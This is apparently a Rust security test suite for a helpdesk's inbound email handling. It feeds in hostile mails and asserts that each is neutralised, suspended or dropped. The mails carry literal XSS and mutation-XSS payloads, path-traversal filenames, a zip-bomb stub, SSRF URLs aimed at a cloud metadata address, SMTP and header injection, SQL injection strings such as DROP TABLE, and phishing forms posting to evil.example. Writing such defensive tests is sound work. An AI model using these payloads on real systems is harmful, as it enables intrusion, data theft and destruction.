//! The classes of attack by mail that trusted systems fell to, each with mails of that kind and what becomes of them.

use serde_json::{Value, json};
use support::{TestApp, on_each_engine};

use super::{Mail, arrives, hands_in, hostile, mail, messages_of, parts, reply_address, ticket_of};

/// A hostile mail: its class, what it is, its bytes, and the state and reason that it gets.
pub struct Case {
    pub class: &'static str,
    pub name: &'static str,
    pub raw: Vec<u8>,
    pub becomes: &'static str,
}

pub fn case(class: &'static str, name: &'static str, mail: &Mail, becomes: &'static str) -> Case {
    Case { class, name, raw: mail.raw(), becomes }
}

fn sara() -> Mail {
    mail("sara@shop.example")
}

fn html(content: &str) -> Mail {
    sara().with("Content-Type", "text/html; charset=utf-8").saying(content)
}

fn attached(headers: &str, body: &str) -> Mail {
    let part = format!("{headers}\r\n\r\n{body}");
    sara().with("Content-Type", "multipart/mixed; boundary=b").saying(parts("b", &["\r\nwords", &part]))
}

/// Active content, in forms that sanitisers were known to let through.
fn markup() -> Vec<Case> {
    let class = "HTML mail sanitising";
    [
        ("a script", "<script>alert(1)</script>words"),
        ("a handler", "<img src=x onerror=alert(1)>words"),
        ("a script in SVG", "<svg><script>alert(1)</script></svg>words"),
        ("a change of meaning by MathML", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">words"),
        ("a change of meaning by noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">words"),
        ("a link of javascript", "<a href=\"jAvAsCrIpT:alert(1)\">words</a>"),
        ("a link with a tab in its scheme", "<a href=\"java\tscript:alert(1)\">words</a>"),
        ("a link of data", "<a href=\"data:text/html,<script>alert(1)</script>\">words</a>"),
        ("a frame with a document", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>words"),
        ("a form that asks for a password", "<form action=https://evil.example><input type=password></form>words"),
        ("a style that reads the page", "<style>@import url(//evil.example/x)</style><p style=\"background:url(//evil.example)\">words"),
        ("another base", "<base href=https://evil.example/>words"),
        ("a page that leaves", "<meta http-equiv=refresh content=\"0;url=//evil.example\">words"),
        ("a picture that tells of reading", "<img src=https://evil.example/pixel.gif width=1>words"),
        ("an object", "<object data=//evil.example></object><embed src=//evil.example>words"),
    ]
    .into_iter()
    .map(|(name, content)| case(class, name, &html(content), "ticket_opened"))
    .collect()
}

/// Files that are not what they say.
fn attachments() -> Vec<Case> {
    let class = "Attachment XSS, sniffing, execution";
    [
        ("a path", "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"../../../etc/cron.d/x\"", "x"),
        ("a path of another system", "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\x.bat\"", "x"),
        ("a page called a picture", "Content-Type: image/png; name=a.png", "<html><script>alert(1)</script>"),
        ("a drawing with a script", "Content-Type: image/svg+xml; name=a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        ("a name with a line end", "Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=UTF-8''a%0D%0ASet-Cookie:%20x=1.txt", "x"),
        ("a name that is written backwards", "Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=UTF-8''%E2%80%AEtxt.exe", "x"),
        ("settings of a web server", "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\".htaccess\"", "AddType x .txt"),
    ]
    .into_iter()
    .map(|(name, headers, body)| case(class, name, &attached(headers, body), "ticket_opened"))
    .collect()
}

/// What is only dangerous to who unpacks or fetches it.
fn remote() -> Vec<Case> {
    let (bombs, fetches) = ("Decompression and archive bombs", "SSRF");
    let bomb = "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAA8P8AAAAAYm9tYnVua25vd24=";
    let zip =
        format!("Content-Type: application/zip; name=bomb.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{bomb}");
    let packed = sara().with("Content-Type", "multipart/mixed; boundary=b").saying(parts("b", &["\r\nwords", &zip]));
    vec![
        case(bombs, "an archive that unpacks to petabytes", &packed, "ticket_opened"),
        case(
            bombs,
            "a mail that says it is compressed",
            &sara().and("Content-Encoding", "gzip").saying("\u{1f}\u{8b}\u{8}"),
            "ticket_opened",
        ),
        case(
            fetches,
            "a picture inside the network",
            &html("<img src=\"http://169.254.169.254/latest\">words"),
            "ticket_opened",
        ),
        case(
            fetches,
            "words that are elsewhere",
            &sara()
                .with("Content-Type", "message/external-body; access-type=URL; URL=\"http://127.0.0.1:1/\"")
                .saying("Content-Type: text/plain\r\n\r\n"),
            "ticket_opened",
        ),
    ]
}

/// What would make two programs talk to each other for ever.
fn loops() -> Vec<Case> {
    let class = "Mail loops, auto-reply storms";
    vec![
        case(class, "an answer of a program", &sara().and("Auto-Submitted", "auto-replied"), "suspended/automatic"),
        case(
            class,
            "an answer of a program, in other letters",
            &sara().and("AUTO-SUBMITTED", "Auto-Generated; x=y"),
            "suspended/automatic",
        ),
        case(class, "a notice of absence", &sara().and("X-Autoreply", "yes"), "suspended/automatic"),
        case(class, "a mail to many", &sara().and("Precedence", "bulk"), "suspended/bulk"),
        case(class, "a mail of a list", &sara().and("List-Id", "<news.shop.example>"), "suspended/mailing_list"),
        case(class, "a mail that nobody is to answer", &sara().and("Return-Path", "<>"), "suspended/null_sender"),
        case(class, "a mail server's mail", &mail("Mailer-Daemon@mx.example"), "suspended/mailer_daemon"),
        case(class, "a mail of nobody", &mail("no-reply@bank.example"), "suspended/no_reply"),
        case(class, "our own address", &mail("help@desk.example"), "dropped/own_address"),
        case(class, "our own address with a token", &mail("help+t1-abc@desk.example"), "dropped/own_address"),
        case(
            class,
            "a report about nothing",
            &mail("x@mx.example")
                .with("Content-Type", "multipart/report; report-type=delivery-status; boundary=r")
                .saying(parts("r", &["Content-Type: message/delivery-status\r\n\r\nAction: failed"])),
            "suspended/unknown_report",
        ),
    ]
}

/// Lines inside of lines.
fn injection() -> Vec<Case> {
    let (headers, queries) = ("Header and SMTP injection", "SQL, filter, search injection");
    vec![
        case(
            headers,
            "a header in the subject",
            &sara().with("Subject", "=?utf-8?Q?a=0D=0ABcc:_x@y.example=0D=0A=0D=0Abody?="),
            "ticket_opened",
        ),
        case(
            headers,
            "a header in the name",
            &sara().with("From", "=?utf-8?Q?a=0ABcc:_x@y.example?= <sara@shop.example>"),
            "ticket_opened",
        ),
        case(
            headers,
            "an end of data in the words",
            &sara().saying("a\r\n.\r\nMAIL FROM:<x@y.example>\r\n"),
            "ticket_opened",
        ),
        case(
            headers,
            "a bare line feed before a dot",
            &sara().saying("a\n.\r\nRCPT TO:<x@y.example>"),
            "ticket_opened",
        ),
        case(headers, "a zero in the subject", &sara().with("Subject", "=?utf-8?Q?a=00b?="), "ticket_opened"),
        case(
            queries,
            "a statement as the subject",
            &sara().with("Subject", "'); DROP TABLE tickets; --"),
            "ticket_opened",
        ),
        case(
            queries,
            "a statement as the Message-ID",
            &sara().with("Message-ID", "<' OR 1=1 --@x.example>"),
            "ticket_opened",
        ),
        case(queries, "a statement as the sender", &mail("x'or'1'='1@shop.example"), "ticket_opened"),
    ]
}

/// What is shown of a mail's state and reason: `suspended/automatic`, `ticket_opened`.
fn became(email: &Value) -> String {
    match email["reason"].as_str() {
        Some(reason) => format!("{}/{reason}", email["state"].as_str().unwrap()),
        None => email["state"].as_str().unwrap().to_owned(),
    }
}

on_each_engine!(each_hostile_mail_becomes_what_its_class_says_and_no_more, |app| {
    app.root().post("/v1/mailboxes", json!({"name": "Desk", "address": "help@desk.example"})).expect(201);
    let groups = [markup(), attachments(), remote(), loops(), injection(), hostile::cases()];
    let all: Vec<Case> = groups.into_iter().flatten().collect();
    assert!(all.len() >= 60, "{}", all.len());
    let mut wrong = Vec::new();
    for Case { class, name, raw, becomes } in all {
        let email = hands_in(app.root(), &raw);
        assert!(matches!(email.status, 200 | 201), "{class}: {name}: {email:?}");
        assert_eq!(email["size"], raw.len(), "{class}: {name}: all of it is kept");
        if became(&email.json) != becomes {
            wrong.push(format!("{class}: {name}: {} instead of {becomes}", became(&email.json)));
        }
        if email["ticket_id"].is_string() {
            let message = &messages_of(app, &email.str("ticket_id"))[0];
            hostile::is_harmless(app, name, message);
            let ticket = ticket_of(app, &email);
            assert!(!ticket.str("subject").contains(['\r', '\n', '\0']), "{class}: {name}: {ticket:?}");
        }
        // One address may not write so much within an hour.
        app.clock.advance_seconds(150);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let customers = app.root().get("/v1/customers?limit=200").expect(200);
    assert!(customers.data().len() < 12, "{customers:?}");
    assert!(app.root().get("/v1/deliveries").expect(200).ids().is_empty(), "nobody is written to");
    app.root().get("/health/ready").expect(200);
});

on_each_engine!(nobody_joins_or_reads_a_ticket_by_what_a_mail_says_of_him, |app| {
    let opened = arrives(app, &sara());
    let ticket = opened.str("ticket_id");
    let number = ticket_of(app, &opened).int("number");
    let address = reply_address(app, number);
    let (local, domain) = address.split_once('@').unwrap();
    let token = local.split_once('-').unwrap().1;
    let foreign = {
        let other = app.other_workspace();
        let mac = app.state().mail_mac.of_ticket(other.id.parse().unwrap(), number).unwrap();
        domain::mail::reply_address("help@desk.example", number, &mac)
    };
    app.agent("Ava").email("ava@desk.example").recorded();
    let to = |from: &str, to: &str| mail(from).with("To", to);
    let (spoofed, cc, trick) =
        ("Spoofed sender joins a thread or acts as agent", "CC hijack and history disclosure", "Ticket trick");
    let cases = [
        case(
            spoofed,
            "the whole token of a stranger",
            &to("omid@shop.example", &address),
            "suspended/sender_not_of_ticket",
        ),
        case(spoofed, "an agent's address", &to("ava@desk.example", &address), "suspended/sender_not_of_ticket"),
        case(
            spoofed,
            "the token in capitals",
            &to("omid@shop.example", &address.to_uppercase()),
            "suspended/sender_not_of_ticket",
        ),
        case(
            spoofed,
            "a cut token",
            &to("omid@shop.example", &format!("{}@{domain}", &local[..local.len() - 1])),
            "ticket_opened",
        ),
        case(spoofed, "a longer token", &to("omid@shop.example", &format!("{local}a@{domain}")), "ticket_opened"),
        case(
            spoofed,
            "an empty token",
            &to("omid@shop.example", &format!("help+t{number}-@{domain}")),
            "ticket_opened",
        ),
        case(spoofed, "no token", &to("omid@shop.example", &format!("help+t{number}@{domain}")), "ticket_opened"),
        case(
            spoofed,
            "the token of another ticket",
            &to("omid@shop.example", &format!("help+t{}-{token}@{domain}", number + 1)),
            "ticket_opened",
        ),
        case(
            spoofed,
            "a number with a sign",
            &to("omid@shop.example", &format!("help+t+{number}-{token}@{domain}")),
            "ticket_opened",
        ),
        case("Tenant leakage", "the token of another workspace", &to("omid@shop.example", &foreign), "ticket_opened"),
        case(
            spoofed,
            "a stranger who answers a known mail",
            &mail("omid@shop.example").with("In-Reply-To", "<known@mail.example>"),
            "ticket_opened",
        ),
        case(
            spoofed,
            "two senders, one of them the customer",
            &mail("omid@shop.example, sara@shop.example").with("To", address.clone()),
            "suspended/several_authors",
        ),
        case(
            spoofed,
            "the customer's name before another address",
            &to("\"sara@shop.example\" <omid@shop.example>", &address),
            "suspended/sender_not_of_ticket",
        ),
        case(
            spoofed,
            "the customer as Reply-To and Sender",
            &to("omid@shop.example", &address).and("Reply-To", "sara@shop.example").and("Sender", "sara@shop.example"),
            "suspended/sender_not_of_ticket",
        ),
        case(
            cc,
            "a copy to somebody else",
            &sara().and("Cc", "eve@evil.example").with("To", address.clone()),
            "message_added",
        ),
        case(cc, "who got the copy answers", &to("eve@evil.example", &address), "suspended/sender_not_of_ticket"),
        case(
            trick,
            "a proof of address that a third party asks for",
            &to("noreply@github.example", &address),
            "suspended/no_reply",
        ),
        case(
            trick,
            "a proof of address from a person's address",
            &to("team@slack.example", &address),
            "suspended/sender_not_of_ticket",
        ),
    ];
    for Case { class, name, raw, becomes } in cases {
        let email = hands_in(app.root(), &raw).expect(201);
        assert_eq!(became(&email.json), becomes, "{class}: {name}");
        assert!(becomes == "message_added" || email["ticket_id"] != json!(ticket), "{class}: {name}");
        app.clock.advance_seconds(150);
    }
    let words = messages_of(app, &ticket);
    assert_eq!(words.len(), 2, "{words:?}");
});

fn flood(app: &TestApp, count: usize) -> Vec<String> {
    (0..count).map(|_| became(&arrives(app, &sara()).json)).collect()
}

on_each_engine!(mail_bombing_becomes_thirty_tickets_and_waits_then, |app| {
    let states = flood(app, 40);
    assert!(states[..30].iter().all(|state| state == "ticket_opened"), "{states:?}");
    assert!(states[30..].iter().all(|state| state == "suspended/too_many"), "{states:?}");
    app.clock.advance_seconds(3_601);
    assert_eq!(flood(app, 1), ["ticket_opened"]);
});
